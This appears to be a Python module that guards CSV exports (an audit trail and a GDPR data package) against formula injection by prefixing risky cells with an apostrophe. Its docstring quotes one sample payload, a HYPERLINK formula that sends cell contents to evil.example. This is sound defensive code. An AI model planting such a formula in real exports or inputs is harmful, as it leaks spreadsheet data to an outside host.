"""CSV cells a spreadsheet will not run as a formula (CSV/formula injection, OWASP).

Both CSV writers of the system use this one rule: the audit trail export (services/audit) and the
data-subject export package (services/gdpr/package.py), whose cells hold values that people and
tenant staff typed, e.g. a CRM contact named ``=HYPERLINK("https://evil.example/?"&A1)``.
"""

from __future__ import annotations

import re

__all__ = ["FORMULA_START", "formula_safe"]

#: A cell starting with one of these is evaluated by Excel, LibreOffice and Google Sheets.
FORMULA_START = re.compile(r"^[=+\-@\t\r]")


def formula_safe(text: str) -> str:
    """``text`` with a leading apostrophe when a spreadsheet would take it for a formula.

    The apostrophe makes the spreadsheet show the cell as text; the value stays readable.
    """
    return "'" + text if FORMULA_START.match(text) else text
